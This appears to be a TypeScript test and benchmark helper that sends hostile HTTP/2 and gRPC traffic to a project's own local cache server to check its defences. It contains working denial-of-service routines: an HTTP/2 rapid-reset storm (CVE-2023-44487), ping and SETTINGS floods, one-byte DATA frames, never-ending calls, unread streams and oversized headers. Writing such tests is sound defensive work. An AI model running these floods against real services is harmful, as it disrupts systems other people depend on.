// Hostile and broken clients of the cache's gRPC port, as issue 39 lists them: each attack runs to
// its end and reports what the server answered (frames, codes), so that a test can assert the
// server's defence and a benchmark can measure what it cost others meanwhile
// (bench/grpc-attacks.bench.ts). Where node:http2's client can produce the traffic it is used (it
// keeps to flow control, so it can push a whole 512 KiB into a stream); raw TCP where it cannot
// (floods past its own limits, one-byte DATA frames, RST_STREAM without END_STREAM, no preface).
import { connect, type ClientHttp2Session } from 'node:http2';
import {
  dataFrame,
  FLAG,
  FRAME,
  goaway,
  grpcFrame,
  grpcRequestFields,
  headersFrame,
  largeHeaders,
  pingFrame,
  PREFACE,
  rawHttp2,
  rstCode,
  rstStreamFrame,
  settingsFrame,
  type Frame,
  type RawHttp2Connection,
} from './raw-http2.ts';

const SERVICE = '/cache.v1.CacheGrpcService';
export const PATHS = {
  get: `${SERVICE}/Get`,
  set: `${SERVICE}/Set`,
  getMany: `${SERVICE}/GetMany`,
  subscribe: `${SERVICE}/Subscribe`,
  reflection: '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo',
};

/** A length-delimited protobuf field (wire type 2) with a one- or two-byte tag-length prefix. */
function field(number: number, value: Buffer | string): Buffer {
  const bytes = typeof value === 'string' ? Buffer.from(value) : value;
  const length: number[] = [];
  let rest = bytes.length;
  while (rest >= 128) {
    length.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  length.push(rest);
  return Buffer.concat([Buffer.from([(number << 3) | 2, ...length]), bytes]);
}

export const messages = {
  get: (key: string): Buffer => field(1, key),
  set: (key: string, value: Buffer): Buffer => Buffer.concat([field(1, key), field(2, value)]),
  getMany: (keys: readonly string[]): Buffer => Buffer.concat(keys.map((key) => field(1, key))),
  subscribe: (prefix: string): Buffer => field(1, prefix),
  /** ServerReflectionRequest { list_services: "*" }. */
  listServices: (): Buffer => field(7, '*'),
};

export interface AttackReport {
  /** Counts of what the server answered, by kind (e.g. `rst:REFUSED_STREAM`, `goaway:too_many_pings`, `status:8`). */
  answers: Record<string, number>;
  /** Connections the attack opened. */
  connections: number;
}

const RST_NAMES: Record<number, string> = { 0: 'NO_ERROR', 2: 'INTERNAL_ERROR', 7: 'REFUSED_STREAM', 8: 'CANCEL', 11: 'ENHANCE_YOUR_CALM' };

/** Tallies a raw connection's answers: RST_STREAM codes, GOAWAY reasons, closed or not. */
function tally(report: AttackReport, connection: RawHttp2Connection): void {
  const add = (kind: string): void => void (report.answers[kind] = (report.answers[kind] ?? 0) + 1);
  for (const received of connection.frames) {
    if (received.type === FRAME.RST_STREAM) add(`rst:${RST_NAMES[rstCode(received)] ?? rstCode(received)}`);
    if (received.type === FRAME.GOAWAY) add(`goaway:${goaway(received).debugData || RST_NAMES[goaway(received).code] || goaway(received).code}`);
    if (received.type === FRAME.HEADERS && (received.flags & FLAG.END_STREAM) !== 0) add('trailers');
  }
  if (connection.closed) add('closed by the server');
}

const newReport = (): AttackReport => ({ answers: {}, connections: 0 });
const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
const fields = (path: string, extra: ReadonlyArray<readonly [string, string]> = []) => grpcRequestFields(path, 'cache', extra);

/**
 * HEADERS then RST_STREAM with every error code (0 to 13), before and after END_STREAM, `streams`
 * times, 100 streams to a write: a client disconnecting mid-request, and the rapid reset
 * (CVE-2023-44487). The request before the reset is in turn nothing, part of a message and a whole
 * one. A connection the server closes is replaced.
 */
export async function resetStorm(port: number, streams: number, path = PATHS.get): Promise<AttackReport> {
  const report = newReport();
  const whole = grpcFrame(messages.get('reset'));
  const bodies = [undefined, whole.subarray(0, 7), whole];
  /** The `n`th stream's frames: every code in turn, 14 without END_STREAM then 14 with, for each kind of body. */
  const resetStream = (id: number, n: number): Buffer => {
    const ended = Math.floor(n / 14) % 2 === 1;
    const body = bodies[Math.floor(n / 28) % 3];
    const request = body === undefined ? [headersFrame(id, fields(path), ended)] : [headersFrame(id, fields(path)), dataFrame(id, body, ended)];
    return Buffer.concat([...request, rstStreamFrame(id, n % 14)]);
  };
  let sent = 0;
  while (sent < streams) {
    const connection = await rawHttp2(port);
    report.connections++;
    for (let id = 1; sent < streams && !connection.closed; ) {
      const batch: Buffer[] = [];
      for (let i = 0; i < 100 && sent < streams; i++, sent++, id += 2) batch.push(resetStream(id, sent));
      await connection.send(...batch);
    }
    await connection.waitClosed(200);
    tally(report, connection);
    connection.destroy();
  }
  return report;
}

/** `streams` Sets on one connection, each message of `bytes` sent one byte per DATA frame. */
export async function tinyFrames(port: number, streams: number, bytes: number): Promise<AttackReport> {
  const report = newReport();
  const connection = await rawHttp2(port);
  report.connections++;
  for (let s = 0, id = 1; s < streams; s++, id += 2) {
    const framed = grpcFrame(messages.set(`tiny:${s}`, Buffer.alloc(bytes - 20, 't')));
    const frames = [headersFrame(id, fields(PATHS.set))];
    for (let i = 0; i < framed.length; i++) frames.push(dataFrame(id, framed.subarray(i, i + 1), i === framed.length - 1));
    await connection.send(...frames);
  }
  await connection.waitFor(() => connection.frames.filter((received) => received.type === FRAME.HEADERS && (received.flags & FLAG.END_STREAM) !== 0).length >= streams, 30_000);
  tally(report, connection);
  connection.destroy();
  return report;
}

function h2Session(port: number): Promise<ClientHttp2Session> {
  const session = connect(`http://127.0.0.1:${port}`);
  session.on('error', () => undefined);
  return new Promise((resolve, reject) => session.once('remoteSettings', () => resolve(session)).once('error', reject));
}

/**
 * Calls that never end: `connections` × `streams` Sets, each announcing a message of `announced`
 * bytes and sending `sent` of it (node:http2 keeps to flow control, so all of it arrives as the
 * server reads), held for `holdMs`, then the connections close.
 */
export async function neverEnding(port: number, options: { connections: number; streams: number; announced: number; sent: number; holdMs: number }): Promise<AttackReport> {
  const report = newReport();
  const sessions = await Promise.all(Array.from({ length: options.connections }, () => h2Session(port)));
  report.connections = sessions.length;
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(options.announced, 1);
  const body = Buffer.concat([prefix, Buffer.alloc(options.sent, 'n')]);
  const outcomes: Array<Promise<string>> = [];
  for (const session of sessions) {
    for (let i = 0; i < options.streams; i++) {
      const stream = session.request({ ':method': 'POST', ':path': PATHS.set, 'content-type': 'application/grpc', te: 'trailers' });
      stream.on('error', () => undefined);
      let status = 'held';
      stream.on('response', (headers) => (status = `status:${String(headers['grpc-status'] ?? headers[':status'])}`));
      outcomes.push(new Promise((resolve) => stream.on('close', () => resolve(status === 'held' ? `rst:${RST_NAMES[stream.rstCode ?? -1] ?? String(stream.rstCode)}` : status))));
      stream.write(body);
    }
  }
  await sleep(options.holdMs);
  sessions.forEach((session) => session.destroy());
  for (const outcome of await Promise.all(outcomes)) report.answers[outcome] = (report.answers[outcome] ?? 0) + 1;
  return report;
}

/**
 * Answers nobody reads: on `connections` raw connections that never grant flow-control window,
 * `streams` GetMany calls each: half of `key` 1,000 times (an answer far over the limit), half of
 * it `fits` times, held for `holdMs`. `key` holds a large value (set beforehand).
 */
export async function unreadAnswers(port: number, options: { connections: number; streams: number; key: string; fits: number; holdMs: number }): Promise<AttackReport> {
  const report = newReport();
  const connections = await Promise.all(Array.from({ length: options.connections }, () => rawHttp2(port)));
  report.connections = connections.length;
  const huge = grpcFrame(messages.getMany(Array.from({ length: 1000 }, () => options.key)));
  const fitting = grpcFrame(messages.getMany(Array.from({ length: options.fits }, () => options.key)));
  await Promise.all(
    connections.map((connection) =>
      connection.send(...Array.from({ length: options.streams }, (_, i) => [headersFrame(2 * i + 1, fields(PATHS.getMany)), dataFrame(2 * i + 1, i % 2 === 0 ? huge : fitting, true)]).flat()),
    ),
  );
  await sleep(options.holdMs);
  for (const connection of connections) {
    tally(report, connection);
    connection.destroy();
  }
  return report;
}

/** Reflection requests sent and never read: `streams` streams of `requests` list_services each, on one raw connection that grants no window. */
export async function reflectionFlood(port: number, options: { streams: number; requests: number; holdMs: number }): Promise<AttackReport> {
  const report = newReport();
  const connection = await rawHttp2(port);
  report.connections++;
  const body = Buffer.concat(Array.from({ length: options.requests }, () => grpcFrame(messages.listServices())));
  // DATA frames of at most 16 KiB, HTTP/2's default largest frame.
  const data = (id: number): Buffer[] => Array.from({ length: Math.ceil(body.length / 16_384) }, (_, i) => dataFrame(id, body.subarray(i * 16_384, (i + 1) * 16_384)));
  for (let i = 0, id = 1; i < options.streams; i++, id += 2) await connection.send(headersFrame(id, fields(PATHS.reflection)), ...data(id));
  await sleep(options.holdMs);
  tally(report, connection);
  connection.destroy();
  return report;
}

/** A control-frame flood for `durationMs`: 100 frames to a write, on a new connection whenever the server closes one. */
async function controlFlood(port: number, durationMs: number, frame: () => Buffer): Promise<AttackReport> {
  const report = newReport();
  const until = performance.now() + durationMs;
  while (performance.now() < until) {
    const connection = await rawHttp2(port);
    report.connections++;
    while (!connection.closed && performance.now() < until) await connection.send(...Array.from({ length: 100 }, frame));
    await connection.waitClosed(50);
    tally(report, connection);
    connection.destroy();
  }
  return report;
}

export const pingFlood = (port: number, durationMs: number): Promise<AttackReport> => controlFlood(port, durationMs, () => pingFrame(Buffer.alloc(8, 1)));
export const settingsFlood = (port: number, durationMs: number): Promise<AttackReport> => controlFlood(port, durationMs, () => settingsFrame([[4, 65_535]]));

/** `connections` TCP connections that never send the HTTP/2 preface, held `holdMs`. */
export async function noPreface(port: number, options: { connections: number; holdMs: number }): Promise<AttackReport> {
  const report = newReport();
  const connections: RawHttp2Connection[] = [];
  for (let i = 0; i < options.connections; i++) connections.push(await rawHttp2(port, { preface: false, ackSettings: false }).catch(() => undefined as never));
  report.connections = connections.filter(Boolean).length;
  await sleep(options.holdMs);
  for (const connection of connections.filter(Boolean)) {
    tally(report, connection);
    connection.destroy();
  }
  return report;
}

/**
 * Subscribe streams nobody reads: `streams` on one raw connection that grants no window, watching
 * every key, while `write` (a well-behaved client's Set of a 1 KiB key) runs in a loop for `durationMs`.
 */
export async function unreadSubscribe(port: number, options: { streams: number; durationMs: number; write: (i: number) => Promise<unknown> }): Promise<AttackReport> {
  const report = newReport();
  const connection = await rawHttp2(port);
  report.connections++;
  const request = grpcFrame(messages.subscribe(''));
  await connection.send(...Array.from({ length: options.streams }, (_, i) => [headersFrame(2 * i + 1, fields(PATHS.subscribe)), dataFrame(2 * i + 1, request, true)]).flat());
  const until = performance.now() + options.durationMs;
  let writes = 0;
  await Promise.all(
    Array.from({ length: 8 }, async () => {
      while (performance.now() < until) await options.write(writes++);
    }),
  );
  report.answers.writes = writes;
  tally(report, connection);
  connection.destroy();
  return report;
}

/** `calls` Gets, each with a `bytes` header value (HEADERS and CONTINUATION frames), 50 to a connection. */
export async function bigHeaders(port: number, options: { calls: number; bytes: number; acknowledged?: boolean }): Promise<AttackReport> {
  const report = newReport();
  for (let done = 0; done < options.calls; ) {
    const batch: Buffer[] = [];
    for (let i = 0, id = 1; i < 50 && done < options.calls; i++, id += 2, done++) {
      batch.push(largeHeaders(id, fields(PATHS.get, [['x-padding', 'p'.repeat(options.bytes)]])), dataFrame(id, grpcFrame(messages.get('headers')), true));
    }
    // Either in the preface's own write, from a client that does not acknowledge the server's
    // SETTINGS (which carry the limit): the server sees the headers before any acknowledgement,
    // however loaded the machine; or, `acknowledged`, once the client acknowledged them (nghttp2
    // then holds the headers to the limit itself).
    const acknowledged = options.acknowledged === true;
    const connection = await rawHttp2(port, { preface: acknowledged, ackSettings: acknowledged });
    report.connections++;
    if (acknowledged) await connection.waitFor((received: Frame) => received.type === FRAME.SETTINGS && (received.flags & FLAG.ACK) === 0, 2000);
    else batch.unshift(PREFACE, settingsFrame());
    await connection.send(...batch);
    await connection.waitFor((received: Frame) => received.type === FRAME.RST_STREAM && received.streamId === 99, 2000);
    tally(report, connection);
    connection.destroy();
  }
  return report;
}

